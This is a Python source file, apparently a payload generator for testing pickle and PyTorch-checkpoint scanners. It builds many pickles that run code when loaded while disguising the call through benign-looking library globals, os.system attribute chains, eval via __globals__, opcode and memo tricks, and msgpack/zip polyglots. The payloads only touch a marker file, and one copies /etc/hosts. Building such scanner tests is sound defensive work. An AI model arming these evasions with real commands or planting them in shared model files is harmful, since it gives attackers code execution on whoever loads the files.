"""Payloads that try to hide the call: behind names that count as harmless, or in opcodes that two readers may
understand differently."""

import struct
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

from tools.payloads.containers import LOAD, Payload, command, inner, legacy, torch_zip
from tools.payloads.pickle_code import (
    Built,
    Call,
    Code,
    Filled,
    Kept,
    Name,
    Steps,
    at,
    attribute,
    call,
    encoded,
    list_of,
    name,
    partial,
    pickled,
)

Make = Callable[[str], Any]


def payloads() -> Iterator[Payload]:
    for label, make in _HARMLESS.items():
        for kind, loader in (("pickle.load", "pickle.load"), ("torch zip", "torch.load")):

            def write(path: Path, marker: str, make: Make = make, loader: str = loader) -> None:
                data = pickled(make(marker), 4)
                path.write_bytes(torch_zip(data) if loader == "torch.load" else data)

            suffix = ".pkl" if kind == "pickle.load" else ".pt"
            yield Payload(f"{label}, {kind}", "names that count as harmless", loader, suffix, write)
    for label, (protocols, make) in _NAMES.items():
        for protocol in protocols:

            def write(path: Path, marker: str, make: Make = make, protocol: int = protocol) -> None:
                path.write_bytes(pickled(make(marker), protocol))

            yield Payload(f"{label}, protocol {protocol}", "odd names", "pickle.load", ".pkl", write)
    for label, (data, loader) in _OPCODES.items():

        def write(path: Path, marker: str, data: Callable[[str], bytes] = data) -> None:
            path.write_bytes(data(marker))

        suffix = ".pt" if loader == "torch.load" else ".pkl"
        yield Payload(label, "opcodes", loader, suffix, write)
    for label, (data, loader, suffix) in _DISGUISED.items():

        def write(path: Path, marker: str, data: Callable[[str], bytes] = data) -> None:
            path.write_bytes(data(marker))

        yield Payload(label, "files of two formats", loader, suffix, write)


# -- names that count as harmless --------------------------------------------------------------------------------


def _load(marker: str) -> Any:
    """A function without arguments that runs the command."""
    return partial(LOAD, inner(marker))


def _new_class(**methods: Any) -> Call:
    return call("builtins:type", "T", (), methods)


def _with_method(method: str) -> Make:
    """An object whose class has a method that runs the command; a partial is called without the object."""
    return lambda marker: call(_new_class(**{method: _load(marker)}))


def _converted(function: str, method: str) -> Make:
    return lambda marker: call(function, _with_method(method)(marker))


HOOKS = ("_forward_hooks", "_forward_pre_hooks", "_backward_hooks", "_backward_pre_hooks")
_BACKWARD_HOOK = "torch.nn.modules.module:BackwardHook"  # a plain class in a module of layers


def _module(**attributes: Any) -> Built:
    hooks: dict[str, Any] = {hook: {} for hook in HOOKS}
    return Built(Call(name("torch.nn.modules.module:Module"), (), "new"), hooks | attributes)


def _sequential(marker: str) -> Call:
    hooks: dict[str, Any] = {hook: {} for hook in HOOKS}
    made = Call(name("torch.nn.modules.container:Sequential"), (), "new")
    return call(Built(made, hooks | {"_modules": {"0": LOAD}}), inner(marker))


_HARMLESS: dict[str, Make] = {
    "_load_from_bytes": lambda m: call(LOAD, inner(m)),
    "_load_from_bytes with zip": lambda m: call(LOAD, torch_zip(pickled(command(m), 2))),
    "_load_from_bytes with the older format": lambda m: call(LOAD, legacy(pickled(command(m), 2))),
    "_load_from_bytes by OBJ": lambda m: Call(LOAD, (inner(m),), "obj"),
    "_load_from_bytes by INST": lambda m: Call(LOAD, (inner(m),), "inst"),
    "_load_from_bytes with latin-1 text": lambda m: call(LOAD, call(
        "_codecs:encode", inner(m).decode("latin-1"), "latin1")),
    "_load_from_bytes with rot13": lambda m: call(LOAD, call("_codecs:encode", call(
        "_codecs:encode", _rot13(inner(m).decode()), "rot13"), "latin1")),
    "_load_from_bytes with hex": lambda m: call(LOAD, call("_codecs:decode", inner(m).hex().encode(), "hex")),
    "_load_from_bytes with a bytearray": lambda m: call(LOAD, call("builtins:bytearray", inner(m))),
    "_load_from_bytes with a list of bytes": lambda m: call(LOAD, call("builtins:bytes", list(inner(m)))),
    "_load_from_bytes, two times": lambda m: call(LOAD, pickled(call(LOAD, inner(m)), 2)),
    "_load_from_bytes with many bytes": lambda m: call(LOAD, _large_storage(m)),
    "_load_from_bytes with many bytes, and a view": lambda m: {"weights": [1.0], "buffer": call(
        LOAD, _large_storage(m, before=False))},
    "partial": lambda m: call(_load(m)),
    "partial of partial": lambda m: call(partial(partial(LOAD), inner(m))),
    "partial by BUILD": lambda m: call(Built(Call(name("functools:partial"), (name("builtins:print"),), "new"), (
        LOAD, (inner(m),), {}, None))),
    "_rebuild_from_type_v2": lambda m: call(
        "torch._tensor:_rebuild_from_type_v2", LOAD, name("torch:Tensor"), (inner(m),), None),
    "_rebuild_from_type_v2 of a partial": lambda m: call(
        "torch._tensor:_rebuild_from_type_v2", _load(m), name("torch:Tensor"), (), None),
    "__generator_ctor": lambda m: call("numpy.random._pickle:__generator_ctor", inner(m), LOAD),
    "__randomstate_ctor": lambda m: call("numpy.random._pickle:__randomstate_ctor", inner(m), LOAD),
    "max": lambda m: call(partial("builtins:max", [inner(m), b""], key=LOAD)),
    "min": lambda m: call(partial("builtins:min", [inner(m), b""], key=LOAD)),
    "defaultdict": lambda m: at(call("collections:defaultdict", _load(m)), "x"),
    "defaultdict by BUILD": lambda m: at(Filled(call("collections:defaultdict", _load(m)), {"a": 1}), "x"),
    "ChainMap": lambda m: at(call("collections:ChainMap", call("collections:defaultdict", _load(m))), "x"),
    "int of an object": _converted("builtins:int", "__int__"),
    "float of an object": _converted("builtins:float", "__float__"),
    "complex of an object": _converted("builtins:complex", "__complex__"),
    "str of an object": _converted("builtins:str", "__str__"),
    "bytes of an object": _converted("builtins:bytes", "__bytes__"),
    "len of an object": _converted("builtins:len", "__len__"),
    "abs of an object": _converted("builtins:abs", "__abs__"),
    "round of an object": _converted("builtins:round", "__round__"),
    "list of an object": _converted("builtins:list", "__iter__"),
    "tuple of an object": _converted("builtins:tuple", "__iter__"),
    "set of an object": _converted("builtins:set", "__iter__"),
    "deque of an object": _converted("collections:deque", "__iter__"),
    "sum of an object": _converted("builtins:sum", "__iter__"),
    "OrderedDict of an object": _converted("collections:OrderedDict", "__iter__"),
    "range of an object": _converted("builtins:range", "__index__"),
    "bool of an object": _converted("builtins:bool", "__bool__"),
    "PosixPath of an object": _converted("pathlib:PosixPath", "__fspath__"),
    "numpy float of an object": _converted("numpy:float64", "__float__"),
    "torch.Size of an object": _converted("torch:Size", "__iter__"),
    "print of an object": _converted("builtins:print", "__str__"),
    "__init__ of an object": lambda m: call(_new_class(__init__=_load(m))),
    "__del__ of an object": lambda m: Steps((call(_new_class(__del__=_load(m))), 1)),
    "key of a dict": lambda m: Code(b"}" + encoded(call(_new_class(__hash__=_load(m))), 4) + b"K\1s"),
    "item of a set": lambda m: Filled(call("builtins:set", []), [call(_new_class(__hash__=_load(m)))], "add"),
    "call of an object": lambda m: call(call(_new_class(__call__=_load(m)))),
    "__setstate__ of an object": lambda m: Built(call(_new_class(__setstate__=partial(LOAD))), inner(m)),
    "append of an object": lambda m: Filled(call(_new_class(append=partial(LOAD))), [inner(m)]),
    "add of an object": lambda m: Filled(call(_new_class(add=partial(LOAD))), [inner(m)], "add"),
    "append in the state of a layer": lambda m: Filled(_module(append=LOAD), [inner(m)]),
    "append in the attributes of a plain class, set later": lambda m: Steps((
        Kept(1, {}), Kept(2, Built(Call(name(_BACKWARD_HOOK), (), "new"), (None, {"__dict__": Kept(1)}))),
        Filled(Kept(1), {"append": LOAD}), Filled(Kept(2), [inner(m)]))),
    "__setstate__ in the attributes of a plain class, set later": lambda m: Steps((
        Kept(1, {}), Kept(2, Built(Call(name(_BACKWARD_HOOK), (), "new"), (None, {"__dict__": Kept(1)}))),
        Filled(Kept(1), {"__setstate__": LOAD}), Built(Kept(2), inner(m)))),
    "a Sequential that is filled later": lambda m: Steps((
        Kept(1, {}), Kept(2, Built(Call(name("torch.nn.modules.container:Sequential"), (), "new"), {
            **{hook: {} for hook in HOOKS}, "_modules": Kept(1)})),
        Filled(Kept(1), {"0": LOAD}), call(Kept(2), inner(m)))),
    "append in the state of a plain class": lambda m: Filled(Built(
        Call(name(_BACKWARD_HOOK), (), "new"), {"append": LOAD}), [inner(m)]),
    "add in the state of a plain class": lambda m: Filled(Built(
        Call(name(_BACKWARD_HOOK), (), "new"), {"add": LOAD}), [inner(m)], "add"),
    "append in the state of a Namespace": lambda m: Filled(Built(
        call("argparse:Namespace"), {"append": LOAD}), [inner(m)]),
    "append in the state of an OrderedDict": lambda m: Filled(Built(
        call("collections:OrderedDict"), {"append": LOAD}), [inner(m)]),
    "__setstate__ in the state of a Namespace": lambda m: Built(Built(
        call("argparse:Namespace"), {"__setstate__": LOAD}), inner(m)),
    "__setstate__ in the state of a plain class": lambda m: Built(Built(
        Call(name(_BACKWARD_HOOK), (), "new"), {"__setstate__": LOAD}), inner(m)),
    "__setstate__ in the state of an OrderedDict": lambda m: Built(Built(
        call("collections:OrderedDict"), {"__setstate__": LOAD}), inner(m)),
    "forward in the state of a layer": lambda m: call(_module(forward=LOAD), inner(m)),
    "a function in a Sequential": _sequential,
    "attributes of a class": lambda m: Steps((
        Built(name(_BACKWARD_HOOK), (None, {"__init__": _load(m)})), call(_BACKWARD_HOOK))),
    "__setstate__ of a class": lambda m: Steps((
        Built(name(_BACKWARD_HOOK), (None, {"__setstate__": partial(LOAD)})),
        Built(Call(name(_BACKWARD_HOOK), (), "new"), inner(m)))),
    "__new__ of a class": lambda m: Steps((
        Built(name("argparse:Namespace"), (None, {"__init__": _load(m)})), call("argparse:Namespace"))),
    "attributes of a function": lambda m: Steps((
        Built(name("copyreg:_reconstructor"), (None, {"__defaults__": ()})), call(_load(m)))),
    "a subclass of dict": lambda m: at(call(call("builtins:type", "D", (name("builtins:dict"),), {
        "__missing__": partial(LOAD)})), inner(m)),
    "a subclass of OrderedDict": lambda m: at(call(call("builtins:type", "D", (name("collections:OrderedDict"),), {
        "__missing__": partial(LOAD)})), inner(m)),
    "__class_getitem__": lambda m: at(_new_class(__class_getitem__=partial(LOAD)), inner(m)),
    "__getitem__": lambda m: at(call(_new_class(__getitem__=partial(LOAD))), inner(m)),
    "itemgetter of globals": lambda m: call(at(at(attribute(
        name("copyreg:__newobj__"), "__globals__"), "__builtins__"), "eval"), f"open({m!r}, 'w')"),
    "itemgetter of globals through a partial": lambda m: call(at(at(call(
        partial("builtins:getattr", name("copyreg:__newobj__")), "__globals__"), "__builtins__"), "eval"),
        f"open({m!r}, 'w')"),
    "getattr in a defaultdict": lambda m: call(at(at(at(call("collections:defaultdict", partial(
        "builtins:getattr", name("copyreg:__newobj__"), "__globals__")), 1), "__builtins__"), "eval"),
        f"open({m!r}, 'w')"),
    "a computed attribute": lambda m: call(attribute(call("pathlib:PosixPath", m), call("builtins:str", "touch"))),
    "an attribute of a path": lambda m: call(attribute(call("pathlib:PosixPath", m), "touch")),
    "an attribute of a path, through a partial": lambda m: call(call(partial(
        "builtins:getattr", call("pathlib:PosixPath", m)), "touch")),
    "a method of a class": lambda m: call("pathlib:PosixPath.touch", call("pathlib:PosixPath", m)),
    "the metadata of distributed checkpoints": lambda m: call(
        "torch.distributed.checkpoint.metadata:os.system", f"touch {m}"),
    "the metadata of distributed checkpoints, mkdir": lambda m: call(
        "torch.distributed.checkpoint.metadata:os.mkdir", m),
    "the metadata of distributed checkpoints, torch.save": lambda m: call(
        "torch.distributed.checkpoint.metadata:torch.save", 1, m),
    "the metadata of distributed checkpoints, the globals": lambda m: call(at(at(name(
        "torch.distributed.checkpoint.metadata:TensorProperties.create_from_tensor.__globals__"), "__builtins__"),
        "eval"), f"open({m!r}, 'w')"),
    "torch.jit._pickle": lambda m: call(at(at(name(
        "torch.jit._pickle:build_intlist.__globals__"), "__builtins__"), "eval"), f"open({m!r}, 'w')"),
    "torch.jit._pickle, its loader": lambda m: call("torch.jit._pickle:__loader__.set_data", m, b"x"),
    "torch.jit._pickle, dict": lambda m: call(at(name(
        "torch.jit._pickle:__builtins__"), "eval"), f"open({m!r}, 'w')"),
}  # fmt: skip


def _rot13(text: str) -> str:
    import codecs

    return codecs.encode(text, "rot13")


def _large_storage(marker: str, before: bool = True) -> bytes:
    """A storage as `torch.save` wrote it before 1.6, so long that its bytes stay in the file, after a command."""
    count = 40_000
    reference = ("storage", name("torch:FloatStorage"), "0", "cpu", count, None)
    content = encoded(command(marker), 2) + b"0" if before else b""
    data = b"\x80\x02" + content + encoded(reference, 2) + b"Q" + (b"" if before else encoded(
        command(marker), 2) + b"0") + b"."  # fmt: skip
    start = legacy(b"|", 3).partition(b"|")[0]
    keys = pickled(["0"], 2)
    return start + data + keys + struct.pack("<q", count) + bytes(4 * count)


# -- odd names ---------------------------------------------------------------------------------------------------


def _long(first: str, rest: str, last: str) -> str:
    """A name of more than 200 characters, which goes through the same modules again and again."""
    return first + rest * (220 // len(rest)) + last


_NEW, _ALL, _OLD = (4, 5), (0, 1, 2, 3, 4, 5), (0, 1, 2)
_MODULES = (
    "random:_os.system", "pathlib:os.system", "joblib.disk:os.system", "torch.serialization:os.system",
    "torch.nn.modules.activation:F.torch.serialization.os.system",
    "torch.nn.modules.module:torch.serialization.os.system", "torch.optim.optimizer:torch.serialization.os.system",
    "torch.nn.utils.rnn:torch.hub.os.system", "torch.nn.parameter:torch.hub.os.system",
    "torch._utils:torch.hub.os.system", "argparse:_os.system", "numpy.ma.core:inspect.os.system",
    "torch.amp.grad_scaler:torch.hub.os.system", "posixpath:os.system", "genericpath:os.system",
    "os:path.os.system", "uuid:os.system", "pathlib:PurePosixPath._flavour.pathmod.os.system",
    "torch.distributed.checkpoint.filesystem:os.system", "logging:os.system",
    "torch.nn.modules.linear:F.torch.hub.os.system", "torch.nn.functional:torch.hub.os.system", "torch:os.system",
    "torch:hub.os.system", "torch:nn.modules.module.torch.hub.os.system", "joblib.numpy_pickle:os.system",
    "pandas.io.common:os.system", "transformers.modeling_utils:os.system", "safetensors.torch:os.system",
)  # fmt: skip
_NAMES: dict[str, tuple[tuple[int, ...], Make]] = {
    **{spec.replace(":", " "): (_NEW[:1], lambda m, s=spec: call(s, f"touch {m}")) for spec in _MODULES},  # type: ignore[misc]
    "a name of 240 characters": (_NEW, lambda m: call(Name(
        "random", _long("_os", ".path.os", ".system")), f"touch {m}")),
    "a name of 240 characters that begins with a class": (_NEW, lambda m: call(Name("pathlib", _long(
        "PurePosixPath._flavour.pathmod.os", ".path.os", ".system")), f"touch {m}")),
    "a name of 240 characters in a module of torch": (_NEW, lambda m: call(Name(
        "torch.nn.modules.activation", _long("F.torch.hub.os", ".path.os", ".system")), f"touch {m}")),
    "a name of 240 characters in metadata": (_NEW, lambda m: call(Name(
        "torch.distributed.checkpoint.metadata", _long("os", ".path.os", ".system")), f"touch {m}")),
    "two names with the same 200 characters": (_NEW, lambda m: [
        Name("pathlib", _long("PurePosixPath._flavour.pathmod.os", ".path.os", ".fspath")),
        call(Name("pathlib", _long("PurePosixPath._flavour.pathmod.os", ".path.os", ".system")), f"touch {m}")]),
    "a module of Python 2, commands": (_OLD, lambda m: call("commands:getoutput", f"touch {m}")),
    "a module of Python 2, __builtin__": (_OLD, lambda m: call("__builtin__:eval", f"open({m!r}, 'w')")),
    "a module of Python 2, imap": (_OLD, lambda m: list_of(call("itertools:imap", name("os:mkdir"), [m]))),
    "a module of Python 2, ifilter": (_OLD, lambda m: list_of(call("itertools:ifilter", name("os:mkdir"), [m]))),
    "a module of Python 2, reduce": (_OLD, lambda m: call("__builtin__:reduce", name("os:mkdir"), [m, 511])),
    "a module of Python 2, anydbm": (_OLD, lambda m: call("anydbm:open", m, "c")),
    "a module of Python 2, dumbdbm": (_OLD, lambda m: call("dumbdbm:open", m, "c")),
    "a module of Python 2, urllib": (_OLD, lambda m: call("urllib:urlretrieve", "file:///etc/hosts", m)),
    "a module of Python 2, cPickle": (_OLD, lambda m: call("cPickle:loads", inner(m))),
    "a module of Python 2, StringIO": (_OLD, lambda m: call("cPickle:load", call("io:BytesIO", inner(m)))),
    "a module of Python 2, xmlrpclib": (_OLD, lambda m: Steps((
        call("xmlrpclib:gzip_encode", b""), call("cPickle:loads", inner(m))))),
    "a module that gets attributes": (_OLD, lambda m: Steps((Built(
        name("random:_os"), (None, {"getcwd": partial("os:mkdir", m)})), call("os:getcwd")))),
    "globals": (_ALL, lambda m: call(attribute(at(call(
        "builtins:globals"), "__builtins__"), "eval"), f"open({m!r}, 'w')")),
    "sys.modules": (_NEW, lambda m: call(attribute(at(name("sys:modules"), "os"), "mkdir"), m)),
}  # fmt: skip


# -- opcodes -----------------------------------------------------------------------------------------------------


def _text(text: str) -> bytes:
    return encoded(text, 2)


def _calls(names: bytes, marker: str, between: bytes = b"") -> bytes:
    """A command, from the opcodes that push its module and its name."""
    return names + b"\x93" + between + _text(f"touch {marker}") + b"\x85R"


def _in_memo(fill: bytes, get: bytes) -> Callable[[str], bytes]:
    """`fill` puts texts into the memo so that `get` pushes "posix" and "system"."""
    return lambda marker: b"\x80\x04" + fill + _calls(get, marker) + b"."


def _put(number: int, text: str, how: bytes = b"r") -> bytes:
    width = {b"r": 4, b"q": 1}[how]
    return _text(text) + how + number.to_bytes(width, "little") + b"0"


def _get(number: int) -> bytes:
    return b"j" + struct.pack("<I", number)


_MEMOIZED = _text("posix") + b"\x940"
_PLAIN = _text("posix") + _text("system")


def _command_bytes(marker: str) -> bytes:
    return encoded(command(marker), 4)


_OPCODES: dict[str, tuple[Callable[[str], bytes], str]] = {
    "MEMOIZE": (_in_memo(_MEMOIZED + _text("system") + b"\x940", _get(0) + _get(1)), "pickle.load"),
    "MEMOIZE after a gap": (_in_memo(
        _put(1, "collections") + _MEMOIZED, _get(1) + _text("system")), "pickle.load"),
    "MEMOIZE after a larger gap": (_in_memo(
        _put(5, "x") + _put(1, "collections") + _put(2, "collections") + _MEMOIZED, _get(3) + _text("system")),
        "pickle.load"),
    "MEMOIZE after an entry was filled twice": (_in_memo(
        _put(5, "collections") + _put(1, "x") + _put(0, "x") + _put(1, "x") + _put(3, "x") + _put(4, "x") + _MEMOIZED,
        _get(5) + _text("system")), "pickle.load"),
    "the same, read by joblib": (_in_memo(
        _put(5, "collections") + _put(1, "x") + _put(0, "x") + _put(1, "x") + _put(3, "x") + _put(4, "x") + _MEMOIZED,
        _get(5) + _text("system")), "joblib.load"),
    "the same, read by torch": (lambda m: torch_zip(_in_memo(
        _put(5, "collections") + _put(1, "x") + _put(0, "x") + _put(1, "x") + _put(3, "x") + _put(4, "x") + _MEMOIZED,
        _get(5) + _text("system"))(m)), "torch.load"),
    "the same, with BINPUT": (_in_memo(
        _put(5, "collections", b"q") + _put(1, "x", b"q") + _put(0, "x", b"q") + _put(1, "x", b"q")
        + _put(3, "x", b"q") + _put(4, "x", b"q") + _MEMOIZED, _get(5) + _text("system")), "pickle.load"),
    "BINPUT again": (_in_memo(
        _put(0, "collections", b"q") + _put(0, "posix", b"q"), b"h\0" + _text("system")), "pickle.load"),
    "LONG_BINPUT far away": (_in_memo(
        _put(1_000_000, "collections") + _put(1_000_000, "posix"), _get(1_000_000) + _text("system")), "pickle.load"),
    "PUT with odd numbers": (_in_memo(
        _text("posix") + b"p 0_7 \n0", b"g+7\n" + _text("system")), "pickle.load"),
    "PUT with a large number": (_in_memo(_text("posix") + b"p100000\n0", b"g100000\n" + _text("system")),
        "pickle.load"),
    "GET before MEMOIZE of a call": (lambda m: b"\x80\x04" + _calls(_PLAIN, m, b"\x94") + b"0h\0" + _text(
        f"touch {m}") + b"\x85R.", "pickle.load"),
    "DUP": (lambda m: b"\x80\x04" + _PLAIN + b"\x932" + _text("touch /dev/null") + b"\x85R0" + _text(
        f"touch {m}") + b"\x85R.", "pickle.load"),
    "POP_MARK": (lambda m: b"\x80\x04(K\1K\2(" + _command_bytes(m) + b"11N.", "pickle.load"),
    "POP of a MARK": (lambda m: b"\x80\x04(0" + _command_bytes(m) + b".", "pickle.load"),
    "MARKs that stay open": (lambda m: b"\x80\x04(((((" + _command_bytes(m) + b".", "pickle.load"),
    "many MARKs": (lambda m: b"\x80\x04" + b"(" * 5000 + _command_bytes(m) + b".", "pickle.load"),
    "discarded": (lambda m: b"\x80\x04" + _command_bytes(m) + b"0}.", "pickle.load"),
    "a value below": (lambda m: b"\x80\x04K\1" + _command_bytes(m) + b"0.", "pickle.load"),
    "in a key": (lambda m: b"\x80\x04}" + _command_bytes(m) + b"K\1s.", "pickle.load"),
    "frame that is too short": (lambda m: b"\x80\x04\x95" + struct.pack("<Q", 3) + _command_bytes(m) + b".",
        "pickle.load"),
    "frame of nothing": (lambda m: b"\x80\x04\x95" + bytes(8) + _command_bytes(m) + b".", "pickle.load"),
    "many frames": (lambda m: b"\x80\x04" + (b"\x95" + struct.pack("<Q", 2) + b"N0") * 50 + _command_bytes(m) + b".",
        "pickle.load"),
    "frame in protocol 2": (lambda m: b"\x80\x02\x95" + struct.pack("<Q", 2) + b"N0" + _command_bytes(m) + b".",
        "pickle.load"),
    "without PROTO": (lambda m: _command_bytes(m) + b".", "pickle.load"),
    "opcodes before PROTO": (lambda m: b"N0\x80\x04" + _command_bytes(m) + b".", "pickle.load"),
    "a list before PROTO": (lambda m: b"]0\x80\x04" + _command_bytes(m) + b".", "pickle.load"),
    "many PROTO": (lambda m: b"\x80\x02\x80\x05\x80\x00\x80\x04" + _command_bytes(m) + b".", "pickle.load"),
    "PROTO 0": (lambda m: b"\x80\x00" + _command_bytes(m) + b".", "pickle.load"),
    "PROTO 1": (lambda m: b"\x80\x01" + _command_bytes(m) + b".", "pickle.load"),
    "PROTO changes how names are read": (lambda m: b"\x80\x04\x80\x02" + b"c__builtin__\neval\n" + _text(
        f"open({m!r}, 'w')") + b"\x85R.", "pickle.load"),
    "names as SHORT_BINSTRING": (lambda m: b"\x80\x04" + _calls(b"U\5posixU\6system", m) + b".", "pickle.load"),
    "names as BINSTRING": (lambda m: b"\x80\x04" + _calls(b"T\5\0\0\0posixT\6\0\0\0system", m) + b".", "pickle.load"),
    "names as STRING": (lambda m: b"\x80\x04" + _calls(b"S'posix'\nS'system'\n", m) + b".", "pickle.load"),
    "names as STRING with escapes": (lambda m: b"\x80\x04" + _calls(
        b"S'p\\x6fsix'\nS\"\\163ystem\"\n", m) + b".", "pickle.load"),
    "names as UNICODE": (lambda m: b"\x80\x04" + _calls(b"Vposix\nVsystem\n", m) + b".", "pickle.load"),
    "names as UNICODE with escapes": (lambda m: b"\x80\x04" + _calls(
        b"V\\u0070osix\nVs\\u0079stem\n", m) + b".", "pickle.load"),
    "names as SHORT_BINUNICODE": (lambda m: b"\x80\x04" + _calls(b"\x8c\5posix\x8c\6system", m) + b".",
        "pickle.load"),
    "names as BINUNICODE8": (lambda m: b"\x80\x04" + _calls(
        b"\x8d" + struct.pack("<Q", 5) + b"posix\x8d" + struct.pack("<Q", 6) + b"system", m) + b".", "pickle.load"),
    "a name that is computed": (lambda m: pickled(Code(_calls(encoded(call(
        "builtins:str", "posix"), 4) + _text("system"), m)), 4), "pickle.load"),
    "a name from a dict": (lambda m: pickled(Code(_calls(encoded(at(
        {"a": "posix"}, "a"), 4) + _text("system"), m)), 4), "pickle.load"),
    "a name from a join": (lambda m: pickled(Code(_calls(encoded(call(
        "posixpath:basename", "x/posix"), 4) + _text("system"), m)), 4), "pickle.load"),
    "a name from chars": (lambda m: pickled(Code(_calls(encoded(call(
        "builtins:str", b"posix", "ascii"), 4) + _text("system"), m)), 4), "pickle.load"),
    "a name from _reconstructor": (lambda m: pickled(Code(_calls(encoded(call(
        "copyreg:_reconstructor", name("builtins:str"), name("builtins:str"), "posix"), 4) + _text("system"), m)), 4),
        "pickle.load"),
    "a name from a torch.device": (lambda m: pickled(Code(_calls(_text("posix") + encoded(call(
        "builtins:str", "system"), 4), m)), 4), "joblib.load"),
    "OBJ": (lambda m: b"\x80\x04(" + _PLAIN + b"\x93" + _text(f"touch {m}") + b"o.", "pickle.load"),
    "INST": (lambda m: b"(" + encoded(f"touch {m}", 0) + b"iposix\nsystem\n.", "pickle.load"),
    "INST in protocol 2": (lambda m: b"\x80\x02(" + _text(f"touch {m}") + b"iposix\nsystem\n.", "pickle.load"),
    "OBJ of a class": (lambda m: pickled(Call(name("io:FileIO"), (m, "w"), "obj"), 4), "pickle.load"),
    "NEWOBJ_EX of a map": (lambda m: pickled(list_of(Call(name("builtins:map"), (
        name("os:mkdir"), [m]), "new_ex")), 4), "pickle.load"),
    "REDUCE of a class": (lambda m: pickled(call("_io:FileIO", m, "w"), 4), "pickle.load"),
    "REDUCE with the state of a Thread": (lambda m: pickled(call("threading:Thread.run", Built(
        Call(name("threading:Thread"), (), "new"), {"_target": name("os:mkdir"), "_args": (m,), "_kwargs": {}})), 4),
        "pickle.load"),
    "BUILD of a module": (lambda m: pickled(Steps((Built(name("random:_os"), (None, {
        "fspath": partial("os:mkdir", m)})), call("os:fspath"))), 4), "pickle.load"),
    "BUILD of slots": (lambda m: pickled(Steps((Built(name("argparse:Namespace"), (None, {
        "__init__": partial("os:mkdir", m)})), call("argparse:Namespace"))), 4), "pickle.load"),
    "BUILD of a dict": (lambda m: pickled(Steps((Built(name("random:_os"), {
        "fspath": partial("os:mkdir", m)}), call("os:fspath"))), 4), "pickle.load"),
    "EXT1": (lambda m: b"\x80\x02\x82\x07" + _text(f"touch {m}") + b"\x85R.", "pickle.load with copyreg extensions"),
    "EXT2": (lambda m: b"\x80\x02\x83\xbc\x02" + _text(f"touch {m}") + b"\x85R.",
        "pickle.load with copyreg extensions"),
    "EXT4": (lambda m: b"\x80\x02\x84" + struct.pack("<I", 70_000) + _text(f"touch {m}") + b"\x85R.",
        "pickle.load with copyreg extensions"),
    "EXT1 that the pickle registers": (lambda m: pickled(Steps((
        call("copyreg:add_extension", "posix", "system", 9), Code(b"\x82\x09" + _text(f"touch {m}") + b"\x85R"))), 4),
        "pickle.load"),
    "PERSID": (lambda m: b"Pposix.system\n" + encoded(f"touch {m}", 0) + b"\x85R.",
        "pickle.Unpickler with persistent_load"),
    "BINPERSID": (lambda m: b"\x80\x02" + _text("posix.system") + b"Q" + _text(f"touch {m}") + b"\x85R.",
        "pickle.Unpickler with persistent_load"),
    "memo of the pickle before": (lambda m: b"\x80\x04" + _put(0, "posix") + _put(1, "system") + b"N.\x80\x04" + _calls(
        _get(0) + _get(1), m) + b".", "pickle.Unpickler, repeatedly"),
    "MEMOIZE, with the memo of the pickle before": (lambda m: b"\x80\x04" + _put(0, "posix") + b"N.\x80\x04" + _text(
        "collections") + b"\x940" + _calls(_get(0) + _text("system"), m) + b".", "pickle.Unpickler, repeatedly"),
    "BYTEARRAY8 as bytes": (lambda m: pickled(call(LOAD, Code(
        b"\x96" + struct.pack("<Q", len(inner(m))) + inner(m))), 5), "pickle.load"),
    "BINBYTES8 as bytes": (lambda m: pickled(call(LOAD, Code(
        b"\x8e" + struct.pack("<Q", len(inner(m))) + inner(m))), 4), "pickle.load"),
    "READONLY_BUFFER": (lambda m: pickled(call(LOAD, Code(
        b"\x96" + struct.pack("<Q", len(inner(m))) + inner(m) + b"\x98")), 5), "pickle.load"),
    "an opcode that does not exist after the call": (lambda m: b"\x80\x04" + _command_bytes(m) + b"\xff.",
        "pickle.load"),
    "protocol 9 after the call": (lambda m: b"\x80\x04" + _command_bytes(m) + b"0\x80\x09N.", "pickle.load"),
    "an invalid call after the call": (lambda m: b"\x80\x04" + _command_bytes(m) + b"0N)R.", "pickle.load"),
    "an invalid tensor after the call": (lambda m: b"\x80\x04" + _command_bytes(m) + b"0" + encoded(call(
        "torch._utils:_rebuild_tensor_v2", 1, 2, 3, 4), 4) + b".", "pickle.load"),
    "a line without an end after the call": (lambda m: b"\x80\x04" + _command_bytes(m) + b"cxyz", "pickle.load"),
    "dict of the state, many keys": (lambda m: pickled({str(number): number for number in range(500)} | {
        "x": command(m)}, 4), "pickle.load"),
    "deep": (lambda m: b"\x80\x04" + b"]" * 400 + _command_bytes(m) + b"a" * 400 + b".", "pickle.load"),
    "many names before": (lambda m: pickled([
        Steps((name("collections:OrderedDict"), *(name(f"datetime:{part}") for part in ("date", "time")))),
        command(m)], 4), "pickle.load"),
    "source of a class that has changed": (lambda m: _changed_source(m), "torch.load"),
}  # fmt: skip


def _changed_source(marker: str, kind: str = _BACKWARD_HOOK) -> bytes:
    """PyTorch writes a patch to a file with the name of the class, if its source is not the one in the file, and the
    class asks for that. The pickle sets both."""
    prepare = Built(name(kind), (None, {"__name__": marker, "dump_patches": True}))
    if kind != _BACKWARD_HOOK:  # a layer has __setstate__, which would be called instead
        prepare = call("builtins:type", marker, (name(kind),), {"dump_patches": True})
    content = Steps((Kept(3, prepare), Code(encoded(("module", Kept(3), "model.py", "import os\n"), 2) + b"Q")))
    return legacy(pickled(content, 2))


# -- files of two formats ----------------------------------------------------------------------------------------


def msgpack(marker: str, before: bytes = b"") -> bytes:
    """A map of msgpack with ten entries whose bytes are also a pickle, with opcodes before those of its call."""
    code = before + encoded(Code(b"cposix\nsystem\n" + _text(f"touch {marker}") + b"\x85R."))
    # The head of the map is LONG1, and the head of its first key is the number of bytes that LONG1 skips.
    entries = b"a\xa0" + b"".join(b"\xa1" + bytes([98 + number]) + b"\x01" for number in range(8)) + b"\xa1z\xc5"
    padding = 0xA1 - len(entries) - 2
    return b"\x8a\xa1" + entries + struct.pack(">H", padding + len(code)) + bytes(padding) + code


_DISGUISED: dict[str, tuple[Callable[[str], bytes], str, str]] = {
    "a pickle that is also msgpack": (msgpack, "pickle.load", ".pkl"),
    "a pickle that is also msgpack, read by torch": (msgpack, "torch.load", ".pt"),
    "a pickle before a zip": (lambda m: pickled(command(m), 4) + torch_zip(pickled({}, 2)), "pickle.load", ".pkl"),
}
